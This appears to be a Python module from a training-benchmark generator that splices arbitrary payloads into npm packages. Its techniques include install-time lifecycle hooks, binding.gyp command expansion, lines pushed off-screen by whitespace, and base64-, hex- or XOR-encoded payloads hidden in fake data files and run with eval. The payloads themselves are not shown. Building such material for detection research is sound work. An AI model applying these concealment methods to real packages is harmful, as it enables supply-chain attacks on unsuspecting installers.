"""Splices for npm releases."""

from __future__ import annotations

import json
import posixpath
import random
import re
from base64 import b64encode

from darnel.training.benchmarks.hosts import Host
from darnel.training.benchmarks.payloads import Payload
from darnel.training.benchmarks.source import append, errors, indent, insert, line_prefix, root_of
from darnel.training.benchmarks.splice import Change, Splice, changed

_NAMES = ("telemetry", "bootstrap", "runtime", "polyfill", "loader", "env", "compat", "stats", "setup_env", "init")
_FOLDERS = ("lib", "dist", "src", "scripts", "build", "")
_MANIFEST = re.compile(rb"(require\(\s*['\"])\.\.?/(package(?:\.json)?['\"])")
_REQUIRE = b"import { createRequire } from 'module';\nconst require = createRequire(import.meta.url);\n"
_STATEMENTS = frozenset({"expression_statement", "lexical_declaration", "variable_declaration", "return_statement"})
_LONGEST_LINE = 64 * 1024
HOOKS = ("preinstall", "install", "postinstall")


def _code(payload: Payload, path: str) -> bytes:
    """The payload with the way to package.json as it is from ``path``."""
    up = b"../" * path.count("/") or b"./"
    return _MANIFEST.sub(lambda m: m[1] + up + m[2], payload.code).strip(b"\n") + b"\n"


def dressed(host: Host, payload: Payload, path: str, rng: random.Random) -> tuple[bytes, str]:
    """The payload as a block at the top level: as it is, in a function that is called at once, or in ``try``."""
    code = _code(payload, path)
    style = rng.choice(("plain", "plain", "function", "guarded"))
    if style == "function":
        opening = rng.choice((b"(function () {\n", b"(() => {\n", b"(async () => {\n"))
        code = b";" + opening + indent(code, b"  ", "javascript") + b"})();\n"
    elif style == "guarded":
        code = b"try {\n" + indent(code, b"  ", "javascript") + b"} catch (e) {}\n"
    if b"require" in code and host.is_module(path):
        code = _REQUIRE + code
    return code, style


def one_line(payload: Payload, path: str) -> tuple[bytes, str]:
    """The payload as one line: joined if that parses, else encoded and evaluated."""
    code = _code(payload, path)
    if code.count(b"\n") <= 1:
        return code.strip(), "joined"
    if b"//" not in code.replace(b"://", b""):
        joined = b" ".join(line.strip() for line in code.split(b"\n") if line.strip())
        before, after = root_of(code, "javascript"), root_of(joined, "javascript")
        if (
            before is not None
            and after is not None
            and errors(joined, "javascript") == errors(code, "javascript")
            and (b"`" not in code and before.named_child_count == after.named_child_count)
        ):
            return joined, "joined"
    return b"eval(Buffer.from('" + b64encode(code) + b"','base64').toString())", "encoded"


def top(data: bytes) -> int:
    """Offset of the line after the shebang, comments, directives and the first run of imports."""
    root = root_of(data, "javascript")
    at = 0
    for node in root.children if root is not None else ():
        text = data[node.start_byte : node.end_byte]
        first = node.type in ("hash_bang_line", "comment", "import_statement") or (
            node.type == "expression_statement" and text[:1] in (b"'", b'"')
        )
        requires = node.type in ("lexical_declaration", "variable_declaration") and b"require(" in text[:200]
        if not first and not (requires and len(text) < 500):
            break
        end = data.find(b"\n", node.end_byte)
        after = data[node.end_byte : end if end >= 0 else len(data)]
        if end < 0 or after.strip(b" \t\r;"):
            break
        at = end + 1
    return at


def _place(host: Host, path: str, payload: Payload, rng: random.Random, *, end: bool) -> Change | None:
    data = host.text(path)
    if data is None:
        return None
    block, style = dressed(host, payload, path, rng)
    if end:
        return changed(path, append(data, b";" + block if block[:1] in b"([`" else block), style)
    return changed(path, insert(data, top(data), block), style)


def append_main(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the end of the main file."""
    return _place(host, host.main, payload, rng, end=True) if host.main else None


def prepend_main(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the top of the main file, after its imports."""
    return _place(host, host.main, payload, rng, end=False) if host.main else None


def append_deep(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the end of another file."""
    paths = host.modules()
    return _place(host, rng.choice(paths), payload, rng, end=True) if paths else None


def prepend_deep(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the top of another file, after its imports."""
    paths = host.modules()
    return _place(host, rng.choice(paths), payload, rng, end=False) if paths else None


def in_function(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """Among the statements of a function that is there already: runs when it is called."""
    paths = [*host.modules(), *([host.main] if host.main else [])]
    for _ in range(4 if paths else 0):
        path = rng.choice(paths)
        data = host.text(path)
        if data is None or host.is_module(path):
            continue
        places = _inside_functions(data)
        if places:
            offset, prefix = rng.choice(places)
            block = indent(_code(payload, path), prefix, "javascript")
            return changed(path, insert(data, offset, block), "plain")
    return None


def _inside_functions(data: bytes) -> list[tuple[int, bytes]]:
    root = root_of(data, "javascript")
    found: list[tuple[int, bytes]] = []
    todo = [root] if root is not None else []
    seen = 0
    while todo and seen < 50_000:
        node = todo.pop()
        seen += 1
        body = node.child_by_field_name("body")
        if (
            body is not None
            and body.type == "statement_block"
            and body.named_child_count >= 2
            and "function" in node.type
        ):
            for statement in body.named_children[:3]:
                prefix = line_prefix(data, statement.start_byte)
                if prefix and statement.type in _STATEMENTS:
                    found.append((statement.start_byte - len(prefix), prefix))
        todo += node.named_children
    return found


def _free(host: Host, rng: random.Random) -> str:
    folders = [f for f in _FOLDERS if not f or any(p.startswith(f"{f}/") for p in host.members)]
    folder = rng.choice(folders)
    suffix = ".cjs" if host.manifest.get("type") == "module" else ".js"
    for name in rng.sample(_NAMES, len(_NAMES)):
        path = f"{folder}/{name}{suffix}" if folder else f"{name}{suffix}"
        if path not in host.members:
            return path
    return ""


def new_file(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A new file that the main file requires."""
    data = host.text(host.main) if host.main else None
    path = _free(host, rng)
    if data is None or not path:
        return None
    way = posixpath.relpath(path, posixpath.dirname(host.main) or ".")
    way = way if way.startswith(".") else f"./{way}"
    code = _code(payload, path)
    line = f"import '{way}';\n" if host.is_module(host.main) else f"require('{way}');\n"
    inserted = insert(data, top(data), line.encode())
    return Change({host.main: inserted.data, path: code}, path, 1, code.count(b"\n"))


def _with_script(host: Host, hook: str, command: str) -> bytes | None:
    data = host.text("package.json")
    if data is None or not host.manifest:
        return None
    scripts = host.manifest.get("scripts")
    scripts = dict(scripts) if isinstance(scripts, dict) else {}
    old = scripts.get(hook)
    scripts[hook] = f"{old} && {command}" if isinstance(old, str) and old else command
    manifest = {**host.manifest, "scripts": scripts}
    found = re.search(rb"\n([ \t]+)\"", data)
    width: str | int = found[1].decode() if found else 2
    return json.dumps(manifest, indent=width, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"


def _line_of(data: bytes, text: str) -> int:
    at = data.find(json.dumps(text, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    return data.count(b"\n", 0, max(at, 0)) + 1


def script(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A lifecycle script that runs a new file."""
    path = _free(host, rng)
    hook = rng.choice(HOOKS)
    manifest = _with_script(host, hook, rng.choice((f"node {path}", f"node ./{path}"))) if path else None
    if manifest is None:
        return None
    code = _code(payload, path)
    return Change({"package.json": manifest, path: code}, path, 1, code.count(b"\n"))


def script_command(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A lifecycle script that is the payload."""
    command = payload.code.decode("utf-8", "replace")
    hook = rng.choice(HOOKS)
    manifest = _with_script(host, hook, command)
    if manifest is None:
        return None
    old = (host.manifest.get("scripts") or {}).get(hook)
    line = _line_of(manifest, f"{old} && {command}" if isinstance(old, str) and old else command)
    return Change({"package.json": manifest}, "package.json", line, line)


def gyp(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A binding.gyp whose command expansion runs a new file, or is the payload."""
    scripts = host.manifest.get("scripts")
    if "binding.gyp" in host.members or (isinstance(scripts, dict) and {"install", "preinstall"} & scripts.keys()):
        return None
    if payload.language == "command":
        command, files, path = payload.code.decode("utf-8", "replace"), {}, "binding.gyp"
        if "\n" in command or '"' in command or command.count("(") != command.count(")"):
            return None
    else:
        path = _free(host, rng)
        if not path:
            return None
        command, files = f"node {path}", {path: _code(payload, path)}
    text = '{\n  "targets": [\n    {\n      "target_name": "binding",\n      "type": "none",\n      "sources": ["<!('
    text += f'{command} > /dev/null 2>&1 && echo stub.c)"]\n    }}\n  ]\n}}\n'
    last = files[path].count(b"\n") if path in files else 6
    return Change({**files, "binding.gyp": text.encode()}, path, 1 if path in files else 6, last)


def long_line(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """One line in a bundled or ordinary file, often pushed off the screen."""
    paths = [*host.modules(), *([host.main] if host.main else [])]
    bundled = [path for path in paths if ".min." in path or "bundle" in path or path.startswith("dist/")]
    for _ in range(4 if paths else 0):
        path = rng.choice(bundled if bundled and rng.random() < 0.6 else paths)
        data = host.text(path)
        if data is None or host.is_module(path):
            continue
        line, style = one_line(payload, path)
        root = root_of(data, "javascript")
        ends = [
            node.end_byte
            for node in (root.children if root is not None else ())
            if node.type in _STATEMENTS and data[node.end_byte - 1 : node.end_byte] in (b";", b"}")
        ]
        if not ends or len(line) > _LONGEST_LINE:
            continue
        gap = b" " * rng.choice((80, 160, 320, 640)) if rng.random() < 0.7 else b""
        return changed(path, insert(data, rng.choice(ends), gap + b";" + line + b";"), style)
    return None


def data_file(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """Encoded in a data file that the main file reads and evaluates."""
    data = host.text(host.main) if host.main else None
    if data is None or host.is_module(host.main):
        return None
    name = rng.choice(("schema.dat", "locale.bin", "test-data.json", "theme.woff", "cache.txt"))
    folder = posixpath.dirname(host.main)
    path = f"{folder}/{name}" if folder else name
    if path in host.members:
        return None
    code = _code(payload, host.main)
    stored, decoded = rng.choice(
        (
            (b64encode(code), b"Buffer.from(%s.toString(), 'base64').toString()"),
            (code.hex().encode(), b"Buffer.from(%s.toString(), 'hex').toString()"),
            (bytes(byte ^ 0x5A for byte in code), b"%s.map(b => b ^ 0x5a).toString()"),
        )
    )
    read = b"require('fs').readFileSync(require('path').join(__dirname, '" + name.encode() + b"'))"
    run = rng.choice((b"eval(%s)", b"new Function('require', %s)(require)"))
    change = changed(host.main, append(data, b";" + run % (decoded % read) + b";\n"), "encoded")
    return Change({**change.files, path: stored}, host.main, change.first, change.last, "encoded")


_CODE = frozenset({"javascript"})

SPLICES: tuple[Splice, ...] = (
    Splice("append-main", _CODE, append_main),
    Splice("prepend-main", _CODE, prepend_main),
    Splice("append-deep", _CODE, append_deep),
    Splice("prepend-deep", _CODE, prepend_deep),
    Splice("in-function", _CODE, in_function),
    Splice("new-file", _CODE, new_file),
    Splice("script", _CODE, script),
    Splice("script-command", frozenset({"command"}), script_command),
    Splice("gyp", frozenset({"javascript", "command"}), gyp),
    Splice("long-line", _CODE, long_line),
    Splice("data-file", _CODE, data_file),
)
